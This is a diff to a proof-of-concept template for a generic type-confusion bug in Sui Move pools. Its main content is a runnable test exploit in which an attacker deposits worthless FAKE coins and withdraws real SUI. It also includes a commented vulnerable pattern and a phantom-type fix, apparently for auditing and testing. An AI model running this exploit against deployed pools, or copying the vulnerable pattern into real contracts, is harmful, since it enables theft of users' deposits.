@@ -1,6 +1,25 @@
+// ---
+// name: Type Confusion via Generics
+// description: Unconstrained generic type parameters
+// vulnerability_type: type-confusion
+// class: account-type-confusion
+// chain: sui
+// severity: high
+// cwe: [CWE-843]
+// harness: sui-move-test
+// remediation: "Parameterize the pool by its coin type (Pool<phantom T> holding Balance<T>) so the
+//   type checker ties deposits and withdrawals to one coin."
+// tags: [generics, type-confusion, phantom-type]
+// context:
+//   PACKAGE: Named address of the package under test (the test module lives in its tests/)
+//   MODULE: Module that defines and shares the pool
+//   FAKE_AMOUNT: Worthless coins the attacker deposits and real coins it withdraws
+// references:
+//   - https://move-book.com/move-basics/generics
+// ---
 // PoC Template: Type Confusion via Generics
 // Vulnerability: Unconstrained generic type parameters
-// Chain: Sui/Move
+// Chain: Sui/Move (sui move test)
 //
 // Move generics allow any type to be used unless constrained.
 // This can enable type confusion attacks.
@@ -9,36 +28,74 @@
 // VULNERABLE CODE PATTERN
 // ============================================================
 // module example::pool {
-//     use sui::object::{Self, UID};
-//     use sui::coin::{Self, Coin};
-//
-//     struct Pool<phantom T> has key {
+//     public struct Pool has key {
 //         id: UID,
-//         balance: u64,
+//         balances: Bag,    // type name -> Balance<T>
+//         credits: Table<address, u64>,
 //     }
 //
-//     // BUG: No validation that T matches the actual coin in the pool
-//     public entry fun withdraw<T>(pool: &mut Pool<T>, amount: u64, ctx: &mut TxContext) {
-//         assert!(pool.balance >= amount, 0);
-//         pool.balance = pool.balance - amount;
-//         // Mints new coins of type T... but what if T is a fake coin?
+//     // BUG: Credits are counted the same whatever coin T is
+//     public fun deposit<T>(pool: &mut Pool, coin: Coin<T>, ctx: &mut TxContext) {
+//         credit(pool, ctx.sender(), coin.value());
+//         ...
 //     }
+//
+//     // ... and can be withdrawn in any other coin the pool holds
+//     public fun withdraw<T>(pool: &mut Pool, amount: u64, ctx: &mut TxContext): Coin<T> { ... }
 // }
+//
+// The target module needs a `#[test_only] public fun init_for_testing(ctx: &mut TxContext)`
+// that calls its `init`.
 
 // ============================================================
-// EXPLOIT SCENARIO
+// EXPLOIT TEST (sui move test)
 // ============================================================
-// 1. Pool<USDC> is created with real USDC deposits
-// 2. Attacker calls withdraw<FakeCoin>(pool, amount)
-// 3. If the pool doesn't validate T matches its actual coin type,
-//    the attacker drains the pool's accounting while getting FakeCoins
-// 4. Pool shows reduced balance but real assets weren't moved
+#[test_only]
+module {{PACKAGE}}::type_confusion_tests {
+    use sui::coin;
+    use sui::sui::SUI;
+    use sui::test_scenario as ts;
+    use {{PACKAGE}}::{{MODULE=pool}}::{Self, {{POOL_TYPE=Pool}}};
+
+    const ADMIN: address = @{{ADMIN_ADDRESS=0xAD}};
+    const VICTIM: address = @{{VICTIM_ADDRESS=0xB0B}};
+    const ATTACKER: address = @{{ATTACKER_ADDRESS=0xBAD}};
+
+    // A coin type the attacker controls
+    public struct FAKE has drop {}
+
+    #[test]
+    fun test_type_confusion() {
+        let mut scenario = ts::begin(ADMIN);
+        {{MODULE}}::init_for_testing(ts::ctx(&mut scenario));
+
+        // 1. A victim deposits real coins
+        ts::next_tx(&mut scenario, VICTIM);
+        let mut pool = ts::take_shared<{{POOL_TYPE}}>(&scenario);
+        let real = coin::mint_for_testing<SUI>({{FAKE_AMOUNT=1000000}}, ts::ctx(&mut scenario));
+        {{MODULE}}::{{DEPOSIT_FUNCTION=deposit}}<SUI>(&mut pool, real, ts::ctx(&mut scenario));
+        ts::return_shared(pool);
+
+        // 2. The attacker deposits worthless coins and withdraws real ones
+        ts::next_tx(&mut scenario, ATTACKER);
+        let mut pool = ts::take_shared<{{POOL_TYPE}}>(&scenario);
+        let fake = coin::mint_for_testing<FAKE>({{FAKE_AMOUNT}}, ts::ctx(&mut scenario));
+        {{MODULE}}::{{DEPOSIT_FUNCTION}}<FAKE>(&mut pool, fake, ts::ctx(&mut scenario));
+        let stolen = {{MODULE}}::{{WITHDRAW_FUNCTION=withdraw}}<SUI>(
+            &mut pool, {{FAKE_AMOUNT}}, ts::ctx(&mut scenario));
+        ts::return_shared(pool);
+
+        assert!(coin::value(&stolen) == {{FAKE_AMOUNT}}, 0);
+        transfer::public_transfer(stolen, ATTACKER);
+        ts::end(scenario);
+    }
+}
 
 // ============================================================
 // FIX: Store and validate the coin type
 // ============================================================
-// struct Pool<phantom T> has key {
+// public struct Pool<phantom T> has key {
 //     id: UID,
-//     coin: Coin<T>,  // Store actual coins, not just balance
+//     balance: Balance<T>,  // Store actual coins, not just credits
 // }
-// // Now withdraw must return Coin<T> which is type-checked by the runtime
+// // Now deposit and withdraw of Pool<T> only take and return Coin<T>, which the type checker enforces